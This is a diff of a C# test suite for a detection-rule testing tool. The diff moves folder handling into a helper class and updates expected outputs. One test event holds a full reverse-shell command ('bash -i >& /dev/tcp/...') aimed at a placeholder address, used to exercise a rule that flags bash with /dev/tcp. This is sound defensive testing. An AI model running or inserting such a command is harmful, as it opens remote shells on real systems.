@@ -22,15 +22,15 @@ public sealed class RulesTestSpec : IDisposable
 
         """;
 
-    private readonly string _folder = TestFolder.Make("rulestest");
+    private readonly RuleFolder _folder = new();
 
-    public void Dispose() => Directory.Delete(_folder, recursive: true);
+    public void Dispose() => _folder.Dispose();
 
     [Fact]
     public async Task Tests_that_pass_are_status_0_and_one_line_of_counts()
     {
-        Write("a.yml", Rule);
-        Write("a.test.yml", """
+        _folder.Write("a.yml", Rule);
+        _folder.Write("a.test.yml", """
             tests:
               - name: a shell
                 event: { Image: /bin/bash, CommandLine: 'bash -i >& /dev/tcp/192.0.2.1/4 0>&1', ProcessId: 7 }
@@ -45,18 +45,18 @@ public sealed class RulesTestSpec : IDisposable
               - match: false
                 event: 'Nov 21 15:30:25 web1 sshd[12]: /bin/bash /dev/tcp'
             """);
-        Write("recorded.json", """[{"Image":"/bin/bash","CommandLine":"/dev/tcp"},{"Image":"/bin/sh"},{"Image":"/x/bash","CommandLine":"/dev/udp"}]""");
-        Write("b.yml", Rule.Replace("2b11", "2b12", StringComparison.Ordinal));
-        Write("b_test.yml", "event:\n  Image: /bin/bash\n  CommandLine: /dev/tcp\n---\nmatch: false\nevent:\n  Image: /bin/bash\n");
-        Write("c.yml", Rule.Replace("2b11", "2b13", StringComparison.Ordinal));
-        var result = await Cli.RunAsync("rules", "test", _folder);
+        _folder.Write("recorded.json", """[{"Image":"/bin/bash","CommandLine":"/dev/tcp"},{"Image":"/bin/sh"},{"Image":"/x/bash","CommandLine":"/dev/udp"}]""");
+        _folder.Write("b.yml", Rule.Replace("2b11", "2b12", StringComparison.Ordinal));
+        _folder.Write("b_test.yml", "event:\n  Image: /bin/bash\n  CommandLine: /dev/tcp\n---\nmatch: false\nevent:\n  Image: /bin/bash\n");
+        _folder.Write("c.yml", Rule.Replace("2b11", "2b13", StringComparison.Ordinal));
+        var result = await Cli.RunAsync("rules", "test", _folder.Path);
         result.IsDone();
         Assert.Equal("6 tests of 2 files of rules: 6 passed, 0 failed, 0 errors; 1 files of rules without tests\n", result.Out);
-        result = await Cli.RunAsync("rules", "test", Path.Combine(_folder, "b_test.yml"));
+        result = await Cli.RunAsync("rules", "test", Path.Combine(_folder.Path, "b_test.yml"));
         Assert.StartsWith("2 tests of 1 files of rules: 2 passed", result.Out);
 
         // Neither kind of test is taken for a rule.
-        result = await Cli.RunAsync("rules", "check", "--platform", "linux", _folder);
+        result = await Cli.RunAsync("rules", "check", "--platform", "linux", _folder.Path);
         result.IsDone();
         Assert.StartsWith("3 rules for linux: ", result.Out);
     }
@@ -64,8 +64,8 @@ public sealed class RulesTestSpec : IDisposable
     [Fact]
     public async Task A_test_that_fails_is_status_1_and_says_which_item_of_which_selection_does_not_hold()
     {
-        Write("a.yml", Rule);
-        var test = Write("a.test.yml", """
+        _folder.Write("a.yml", Rule);
+        var test = _folder.Write("a.test.yml", """
             tests:
               - name: wrong program
                 event: { Image: /bin/zsh, CommandLine: /dev/tcp }
@@ -78,15 +78,15 @@ public sealed class RulesTestSpec : IDisposable
               - { name: gone, events: gone.json }
               - { name: fine, event: { Image: /bin/bash, CommandLine: /dev/tcp } }
             """);
-        var junit = Path.Combine(_folder, "junit.xml");
-        var result = await Cli.RunAsync("rules", "test", "--junit", junit, _folder);
+        var junit = Path.Combine(_folder.Path, "junit.xml");
+        var result = await Cli.RunAsync("rules", "test", "--junit", junit, _folder.Path);
         Assert.Equal(1, result.Code);
         Assert.Contains($"{test}(2,5): failed: wrong program: the event does not match\n    Shell (5b0c7e0e-52ea-4be7-9c0f-6f0c8d5c2b11):\n      sel: does not hold\n        6:5 Image|endswith: '/bash': the event has '/bin/zsh'\n", result.Out);
         Assert.Contains($"{test}(4,5): failed: quiet: the event matches, and must not\n", result.Out);
         Assert.Contains("      sel: CommandLine = /dev/tcp/x\n", result.Out);
         Assert.Contains($"{test}(7,5): failed: none: 1 of 2 events: does not match\n", result.Out);
         Assert.Contains("        7:5 CommandLine|contains: '/dev/tcp', '/dev/udp': the event does not have the field\n", result.Out);
-        Assert.Contains("the rule is not asked about this event, whose log source is linux/another/*\n", result.Out);
+        Assert.Contains("the rule is not asked about this event, whose log source is linux/file_event/*\n", result.Out);
         Assert.Contains("failed: gone: Could not find file", result.Out);
         Assert.EndsWith("7 tests of 1 files of rules: 1 passed, 6 failed, 0 errors; 0 files of rules without tests\n", result.Out);
 
@@ -94,7 +94,7 @@ public sealed class RulesTestSpec : IDisposable
         Assert.Equal(("7", "6"), (suite.Attribute("tests")!.Value, suite.Attribute("failures")!.Value));
         Assert.Equal(6, suite.Elements("testcase").Elements("failure").Count());
 
-        result = await Cli.RunAsync("rules", "test", "--json", _folder);
+        result = await Cli.RunAsync("rules", "test", "--json", _folder.Path);
         Assert.Equal(1, result.Code);
         using var document = JsonDocument.Parse(result.Out);
         Assert.Equal((1, 6), (document.RootElement.GetProperty("passed").GetInt32(), document.RootElement.GetProperty("failed").GetInt32()));
@@ -106,8 +106,8 @@ public sealed class RulesTestSpec : IDisposable
     [Fact]
     public async Task What_is_wrong_with_a_test_is_named_at_its_place_and_the_others_run()
     {
-        var rule = Write("a.yml", Rule);
-        var test = Write("a.test.yml", """
+        var rule = _folder.Write("a.yml", Rule);
+        var test = _folder.Write("a.test.yml", """
             tests:
               - { name: fine, event: { Image: /bin/bash, CommandLine: /dev/tcp } }
               - { evnt: {} }
@@ -119,21 +119,21 @@ public sealed class RulesTestSpec : IDisposable
             ---
             tests: [
             """);
-        var orphan = Write("gone.test.yml", "event: {}\n");
-        var result = await Cli.RunAsync("rules", "test", _folder);
+        var orphan = _folder.Write("gone.test.yml", "event: {}\n");
+        var result = await Cli.RunAsync("rules", "test", _folder.Path);
         Assert.Equal(1, result.Code);
         var errors = result.Error.Split('\n', StringSplitOptions.RemoveEmptyEntries);
         string[] places =
         [
             $"{test}(3,7): error value", $"{test}(4,14): error value", $"{test}(5,5): error missing-key", $"{test}(6,21): error value",
-            $"{test}(8,1): error type", $"{test}(11,1): error yaml", $"{orphan}(0,0): error file",
+            $"{test}(8,1): error type", $"{test}(10,9): error yaml", $"{orphan}(0,0): error file",
         ];
         Assert.Equal(places.Length, errors.Length);
         for (var i = 0; i < places.Length; i++) Assert.StartsWith($"picket: {places[i]}", errors[i]);
         Assert.Equal("1 tests of 1 files of rules: 1 passed, 0 failed, 7 errors; 0 files of rules without tests\n", result.Out);
 
         File.WriteAllText(rule, Rule.Replace("endswith", "endswit", StringComparison.Ordinal));
-        result = await Cli.RunAsync("rules", "test", Path.Combine(_folder, "a.yml"));
+        result = await Cli.RunAsync("rules", "test", Path.Combine(_folder.Path, "a.yml"));
         Assert.Contains($"picket: {rule}(6,5): error unknown-modifier: ", result.Error);
         Assert.Contains("failed: fine: there is no sound rule to test", result.Out);
     }
@@ -145,9 +145,9 @@ public sealed class RulesTestSpec : IDisposable
     {
         // Its rules have no title and no log source, which Sigma demands.
         var corpus = Corpora.Require("sigma-tests/sigma-test/testdata");
-        Write($"{name}.yaml", $"title: {name}\nlogsource: {{ product: test }}\n{File.ReadAllText(Path.Combine(corpus, name + ".yaml"))}");
-        File.Copy(Path.Combine(corpus, name + "_test.yaml"), Path.Combine(_folder, name + "_test.yaml"));
-        var result = await Cli.RunAsync("rules", "test", _folder);
+        _folder.Write($"{name}.yaml", $"title: {name}\nlogsource: {{ product: test }}\n{File.ReadAllText(Path.Combine(corpus, name + ".yaml"))}");
+        File.Copy(Path.Combine(corpus, name + "_test.yaml"), Path.Combine(_folder.Path, name + "_test.yaml"));
+        var result = await Cli.RunAsync("rules", "test", _folder.Path);
         Assert.Equal("5 tests of 1 files of rules: 5 passed, 0 failed, 0 errors; 0 files of rules without tests\n", result.Out);
         result.IsDone();
     }
@@ -155,8 +155,8 @@ public sealed class RulesTestSpec : IDisposable
     [Fact]
     public async Task A_rule_is_asked_about_the_events_of_a_file()
     {
-        var rule = Write("a.yml", Rule);
-        var quiet = Write("quiet.json", """{"Image":"/bin/ls","CommandLine":"ls"}""");
+        var rule = _folder.Write("a.yml", Rule);
+        var quiet = _folder.Write("quiet.json", """{"Image":"/bin/ls","CommandLine":"ls"}""");
         var result = await Cli.RunAsync("rules", "test", rule, "--event", quiet);
         Assert.Equal(1, result.Code);
         Assert.Equal($"""
@@ -170,7 +170,7 @@ public sealed class RulesTestSpec : IDisposable
 
             """, result.Out);
 
-        var shell = Write("shell.json", """[{"Image":"/bin/ls"},{"Image":"/bin/bash","CommandLine":"x /dev/tcp"}]""");
+        var shell = _folder.Write("shell.json", """[{"Image":"/bin/ls"},{"Image":"/bin/bash","CommandLine":"x /dev/tcp"}]""");
         result = await Cli.RunAsync("rules", "test", rule, "--event", shell);
         result.IsDone();
         Assert.Contains($"{shell}:2: matches: Shell (5b0c7e0e-52ea-4be7-9c0f-6f0c8d5c2b11)\n    sel: Image = /bin/bash\n    sel: CommandLine = x /dev/tcp\n", result.Out);
@@ -184,19 +184,12 @@ public sealed class RulesTestSpec : IDisposable
     [Fact]
     public async Task Wrong_usage_is_status_2()
     {
-        var rule = Write("a.yml", Rule);
-        var broken = Write("broken.json", "{\"Image\": nope}\n");
-        (await Cli.RunAsync("rules", "test", rule, "--event", Path.Combine(_folder, "gone"))).IsRefused(2, "no such file or folder");
-        (await Cli.RunAsync("rules", "test", Path.Combine(_folder, "gone"))).IsRefused(2, "no such file or folder");
+        var rule = _folder.Write("a.yml", Rule);
+        var broken = _folder.Write("broken.json", "{\"Image\": nope}\n");
+        (await Cli.RunAsync("rules", "test", rule, "--event", Path.Combine(_folder.Path, "gone"))).IsRefused(2, "no such file or folder");
+        (await Cli.RunAsync("rules", "test", Path.Combine(_folder.Path, "gone"))).IsRefused(2, "no such file or folder");
         var result = await Cli.RunAsync("rules", "test", rule, "--event", broken);
         Assert.Equal(2, result.Code);
         Assert.Contains($"picket: {broken}:1:12: ", result.Error);
-    }
-
-    private string Write(string name, string text)
-    {
-        var file = Path.Combine(_folder, name);
-        File.WriteAllText(file, text);
-        return file;
     }
 }
